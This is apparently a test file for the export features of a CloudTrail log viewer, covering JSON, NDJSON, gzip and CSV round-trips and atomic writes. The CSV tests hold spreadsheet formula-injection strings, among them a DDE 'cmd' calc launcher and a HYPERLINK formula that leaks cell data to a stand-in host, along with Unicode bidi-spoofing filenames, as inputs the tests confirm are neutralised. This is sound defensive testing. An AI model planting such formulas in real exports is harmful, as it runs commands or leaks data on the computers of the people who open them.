import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import { gunzipSync } from 'node:zlib';
import { writeAtomically } from '../../../src/core/investigate/atomicWrite';
import { decodeLogBytes, decodeLogText, decodeToBatch, rereadRaws } from '../../../src/core/ingest/decode';
import { csvChunks, exportChunks, type ExportFormat } from '../../../src/core/investigate/export';
import {
  CSV_COLUMN_CHOICES,
  csvCell,
  DEFAULT_CSV_COLUMNS,
  resolveColumns,
} from '../../../src/core/investigate/exportCsv';
import { normalizeEvent } from '../../../src/core/model/records';
import { EventStore } from '../../../src/core/store/store';
import { aLogFile, anEvent, gz, samplesDir } from '../../builders/events';
import { hostileEvent, INJECTION_PAYLOADS } from '../../builders/injection';

function storeOf(events: Array<Record<string, unknown>>): EventStore {
  const store = new EventStore();
  for (const e of events) store.add(normalizeEvent(e), 0);
  return store;
}

function loadFiles(dir: string): EventStore {
  const store = new EventStore();
  readdirSync(dir)
    .sort()
    .forEach((f, i) => {
      const r = decodeLogBytes(readFileSync(join(dir, f)));
      if (r.kind === 'events') for (const rec of r.records) store.add(rec, i);
    });
  return store;
}

const all = (store: EventStore): Uint32Array => Uint32Array.from({ length: store.size }, (_, i) => i);

async function collect(chunks: AsyncIterable<string | Uint8Array>): Promise<Buffer> {
  const parts: Buffer[] = [];
  for await (const c of chunks) parts.push(typeof c === 'string' ? Buffer.from(c) : Buffer.from(c));
  return Buffer.concat(parts);
}

/** RFC 4180 reader for checking the output (quoted cells, doubled quotes, CRLF rows). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    assert.equal(text[i], '"', `cell at ${i} is quoted`);
    let cell = '';
    for (i++; ; i++) {
      if (text[i] === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (text[i] === '"') break;
      else if (i >= text.length) assert.fail('unterminated cell');
      else cell += text[i];
    }
    row.push(cell);
    i++;
    if (text[i] === ',') i++;
    else {
      assert.equal(text.slice(i, i + 2), '\r\n', 'rows end with CRLF');
      rows.push(row);
      row = [];
      i += 2;
    }
  }
  return rows;
}

const invictusDir = (): string => join(samplesDir(), 'invictus-ir_aws_dataset/CloudTrail');

describe('export: JSON formats round-trip through the decoder', () => {
  const store = loadFiles(invictusDir());
  // Newest first, as the viewer hands it over; a subset, as a filter would.
  const rows = store.rowsByTime().filter((r) => store.value('eventSource', r) !== 'sts.amazonaws.com');

  for (const format of ['json', 'json.gz', 'ndjson'] as ExportFormat[]) {
    test(`${format}: the real sample loads back to the same events, byte for byte`, async () => {
      const bytes = await collect(exportChunks(store, rows, format, { chunkChars: 64 * 1024 }));
      if (format === 'json.gz') assert.deepEqual([bytes[0], bytes[1]], [0x1f, 0x8b]);
      const back = decodeLogBytes(bytes);
      assert.equal(back.kind, 'events');
      if (back.kind !== 'events') return;
      assert.equal(back.format, format === 'ndjson' ? 'ndjson' : 'records');
      assert.equal(back.records.length, rows.length);
      back.records.forEach((rec, i) => assert.equal(rec.raw, store.raw(rows[i])));
    });
  }

  test('Event-history rows (raw = the CloudTrailEvent text, even pretty-printed) stay one event per line', async () => {
    const inner = JSON.stringify(anEvent({ eventName: 'RunInstances' }), null, 2);
    const s = new EventStore();
    const r = decodeLogText(
      JSON.stringify({ Events: [{ EventId: 'x', EventName: 'RunInstances', CloudTrailEvent: inner }] }),
    );
    assert.ok(r.kind === 'events');
    for (const rec of r.records) s.add(rec, 0);
    const plaso = loadFiles(join(samplesDir(), 'plaso'));
    assert.ok(plaso.size >= 6);
    for (let row = 0; row < plaso.size; row++)
      s.add(normalizeEvent(JSON.parse(plaso.raw(row)) as Record<string, unknown>, plaso.raw(row)), 0);
    const ndjson = (await collect(exportChunks(s, all(s), 'ndjson'))).toString();
    assert.equal(ndjson.split('\n').length, s.size + 1);
    const back = decodeLogText(ndjson);
    assert.ok(back.kind === 'events');
    back.records.forEach((rec, i) => assert.deepEqual(JSON.parse(rec.raw), JSON.parse(s.raw(i))));
    const json = (await collect(exportChunks(s, all(s), 'json'))).toString();
    assert.ok(json.includes(inner), 'the Records file holds the stored text unchanged');
    assert.equal(JSON.parse(json).Records.length, s.size);
  });

  test('an empty result set is an empty Records file', async () => {
    assert.equal((await collect(exportChunks(store, new Uint32Array(), 'json'))).toString(), '{"Records":[]}\n');
  });

  test('output comes in bounded chunks with progress, and stops when cancelled', async () => {
    const sizes: number[] = [];
    const progress: number[] = [];
    for await (const c of exportChunks(store, rows, 'ndjson', {
      chunkChars: 16 * 1024,
      onProgress: (d, t) => (assert.equal(t, rows.length), progress.push(d)),
    }))
      sizes.push(c.length);
    assert.ok(sizes.length > 20, `${sizes.length} chunks`);
    assert.ok(Math.max(...sizes) < 16 * 1024 + 6 * 1024, 'a chunk is the limit plus at most one event');
    assert.deepEqual(
      progress,
      [...progress].sort((a, b) => a - b),
    );
    assert.equal(progress.at(-1), rows.length);

    const ac = new AbortController();
    let seen = 0;
    await assert.rejects(
      async () => {
        for await (const _ of exportChunks(store, rows, 'json.gz', { chunkChars: 16 * 1024, signal: ac.signal }))
          if (++seen === 1) ac.abort();
      },
      { name: 'AbortError' },
    );
  });
});

describe('export: CSV', () => {
  test('the escaping table', () => {
    const cases: Array<[string, string]> = [
      ['plain', '"plain"'],
      ['', '""'],
      ['a,b', '"a,b"'],
      ['say "hi"', '"say ""hi"""'],
      ['line\r\nbreak', '"line\r\nbreak"'],
      ['=1+2', `"'=1+2"`],
      ['+1', `"'+1"`],
      ['-1', `"'-1"`],
      ['@SUM(A1)', `"'@SUM(A1)"`],
      ['\t=1', `"'\t=1"`],
      ['\rx', `"'\rx"`],
      ['\nx', `"'\nx"`],
      ["  =cmd|' /C calc'!A0", `"'  =cmd|' /C calc'!A0"`],
      ['\uFF1DHYPERLINK("x")', `"'\uFF1DHYPERLINK(""x"")"`],
      ['=HYPERLINK("https://example.invalid?"&A1,"x")', `"'=HYPERLINK(""https://example.invalid?""&A1,""x"")"`],
      ['a=b-c', '"a=b-c"'],
      ['\u202Egnp.exe', `"<U+202E>gnp.exe"`],
      ['x\u2066y\u2069\u200F', `"x<U+2066>y<U+2069><U+200F>"`],
      ['\u0000null', '"<U+0000>null"'],
      ['\u0000=1', `"<U+0000>=1"`],
      ['zero\u200Bwidth', '"zero\u200Bwidth"'],
    ];
    for (const [input, want] of cases) assert.equal(csvCell(input), want, JSON.stringify(input));
  });

  test('hostile events: every row parses back whole, and no cell can start a formula', async () => {
    const events = INJECTION_PAYLOADS.flatMap((p, i) => [
      hostileEvent(p, i),
      hostileEvent(`=cmd|'/c calc'!A0${p}`, 100 + i),
      hostileEvent(`"\r\n-2+3,${p}`, 200 + i),
    ]);
    const store = storeOf(events);
    const columns = [
      'time',
      'eventName',
      'principal',
      'sourceIp',
      'userAgent',
      'errorMessage',
      'requestParameters',
      'resources',
      'userIdentity.sessionContext.sourceIdentity',
    ];
    const text = (await collect(csvChunks(store, all(store), { columns }))).toString('utf8');
    assert.ok(text.startsWith('\uFEFF'));
    const table = parseCsv(text.slice(1));
    assert.deepEqual(table[0], columns);
    assert.equal(table.length, store.size + 1);
    for (const row of table.slice(1)) {
      assert.equal(row.length, columns.length);
      for (const cell of row) assert.doesNotMatch(cell, /^(?:[\t\r\n]|\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/);
      for (const cell of row) assert.doesNotMatch(cell, /[\u202A-\u202E\u2066-\u2069\u0000]/);
    }
    const eq = table.findIndex((r) => r[1].startsWith(`'=cmd`));
    assert.ok(eq > 0);
    assert.equal(
      table[eq][1].slice(1),
      `=cmd|'/c calc'!A0${INJECTION_PAYLOADS[0]}`,
      'the value is kept after the quote',
    );
  });

  test('columns: store fields, time, resources and paths into the event', async () => {
    const store = storeOf([
      anEvent({
        eventTime: '2024-03-01T10:00:00.123Z',
        errorCode: 'AccessDenied',
        errorMessage: 'no, "really"',
        requestParameters: { bucketName: 'b1', n: 3 },
        resources: [{ ARN: 'arn:aws:s3:::b2' }],
      }),
    ]);
    const columns = [
      'time',
      'errorCode',
      'errorMessage',
      'requestParameters',
      'requestParameters.n',
      'userIdentity.userName',
      'resources',
      'missing.path',
      '__proto__',
    ];
    const table = parseCsv((await collect(csvChunks(store, all(store), { columns, bom: false }))).toString());
    assert.deepEqual(table[1], [
      '2024-03-01T10:00:00.123Z',
      'AccessDenied',
      'no, "really"',
      '{"bucketName":"b1","n":3}',
      '3',
      'alice',
      'arn:aws:s3:::b2\nb1',
      '',
      '',
    ]);
    assert.throws(() => csvChunks(store, all(store), { columns: [] }), /at least one column/);
    assert.throws(() => resolveColumns(['eventName', 'a..b']), /"a\.\.b" is not a column/);
    assert.throws(() => resolveColumns(['has space']), /not a column/);
    assert.equal(resolveColumns(CSV_COLUMN_CHOICES).length, CSV_COLUMN_CHOICES.length);
    for (const c of DEFAULT_CSV_COLUMNS) assert.ok(CSV_COLUMN_CHOICES.includes(c), c);
  });

  test('the real sample exports one row per event with the default columns', async () => {
    const store = loadFiles(invictusDir());
    const table = parseCsv((await collect(exportChunks(store, store.rowsByTime(), 'csv'))).toString().slice(1));
    assert.equal(table.length, store.size + 1);
    const denied = table.filter((r) => r[1] === 'AssumeRole' && r[9] === 'AccessDenied');
    assert.equal(denied.length, 13);
    for (const r of denied)
      assert.match(
        r[10],
        /^User: arn:aws:iam::123837392027:user\/bert-jan is not authorized to perform: sts:AssumeRole/,
      );
  });
});

describe('export: writing atomically', () => {
  const dir = mkdtempSync(join(tmpdir(), 'ctl-export-'));
  after(() => rmSync(dir, { recursive: true, force: true }));
  const leftovers = (): string[] => readdirSync(dir).filter((f) => f.endsWith('.tmp'));

  test('writes the whole file, replacing an older one', async () => {
    const path = join(dir, 'out.json.gz');
    writeFileSync(path, 'old');
    const store = loadFiles(invictusDir());
    const bytes = await writeAtomically(path, exportChunks(store, all(store), 'json.gz'));
    assert.equal(readFileSync(path).length, bytes);
    assert.equal(JSON.parse(gunzipSync(readFileSync(path)).toString()).Records.length, store.size);
    assert.deepEqual(leftovers(), []);
  });

  test('a replaced file keeps its permissions', { skip: process.platform === 'win32' }, async () => {
    const path = join(dir, 'private.csv');
    writeFileSync(path, 'old', { mode: 0o600 });
    await writeAtomically(path, ['new']);
    assert.equal(readFileSync(path, 'utf8'), 'new');
    assert.equal(statSync(path).mode & 0o777, 0o600);
  });

  test('a stream that fails midway leaves no file and the old one intact', async () => {
    async function* failing(): AsyncGenerator<string> {
      yield 'partial data';
      throw new Error('disk said no');
    }
    await assert.rejects(writeAtomically(join(dir, 'new.csv'), failing()), /disk said no/);
    assert.equal(existsSync(join(dir, 'new.csv')), false);
    writeFileSync(join(dir, 'kept.csv'), 'old');
    await assert.rejects(writeAtomically(join(dir, 'kept.csv'), failing()), /disk said no/);
    assert.equal(readFileSync(join(dir, 'kept.csv'), 'utf8'), 'old');
    assert.deepEqual(leftovers(), []);
  });

  test('cancelling mid-export leaves no file', async () => {
    const store = loadFiles(invictusDir());
    const ac = new AbortController();
    const chunks = exportChunks(store, all(store), 'ndjson', {
      chunkChars: 8 * 1024,
      signal: ac.signal,
      onProgress: (d) => d > 100 && ac.abort(),
    });
    await assert.rejects(writeAtomically(join(dir, 'cancelled.ndjson'), chunks, { signal: ac.signal }), {
      name: 'AbortError',
    });
    assert.equal(existsSync(join(dir, 'cancelled.ndjson')), false);
    assert.deepEqual(leftovers(), []);
  });

  test('a folder that does not exist is a clear error', async () => {
    await assert.rejects(writeAtomically(join(dir, 'no/such/folder/x.json'), ['x']), { code: 'ENOENT' });
  });
});

describe('raws kept compressed', () => {
  test('exporting in time order across interleaved files decodes each file about once, not once per row', async () => {
    let rereads = 0;
    const store = new EventStore((source) => {
      rereads++;
      return rereadRaws(source);
    });
    const files = 12;
    const t0 = Date.UTC(2024, 2, 1);
    const expected = new Map<string, string>();
    for (let f = 0; f < files; f++) {
      // File f holds every 12th second: in time order the files take turns, row by row.
      const events = Array.from({ length: 300 }, (_, j) =>
        anEvent({ eventTime: new Date(t0 + (j * files + f) * 1000).toISOString().replace('.000Z', 'Z') }),
      );
      const r = decodeToBatch(gz(aLogFile(events)), { maxBytes: 1 << 26 });
      assert.equal(r.kind, 'batch');
      store.addBatch(r.batch, f);
      for (const e of events) expected.set(e.eventID as string, JSON.stringify(e));
    }
    const rows = store.rowsByTime();
    assert.equal(rows.length, files * 300);
    let text = '';
    for await (const chunk of exportChunks(store, rows, 'ndjson')) text += chunk as string;
    const lines = text.trimEnd().split('\n');
    assert.equal(lines.length, rows.length);
    // Newest first, each line the event as it was in its file.
    assert.deepEqual(
      lines.slice(0, 2).map((l) => (JSON.parse(l) as { eventTime: string }).eventTime),
      [
        new Date(t0 + (299 * files + 11) * 1000).toISOString().replace('.000Z', 'Z'),
        new Date(t0 + (299 * files + 10) * 1000).toISOString().replace('.000Z', 'Z'),
      ],
    );
    for (const l of lines)
      assert.equal(JSON.stringify(JSON.parse(l)), expected.get((JSON.parse(l) as { eventID: string }).eventID));
    assert.ok(rereads <= files, `${rereads} decodes for ${files} files`);
  });
});
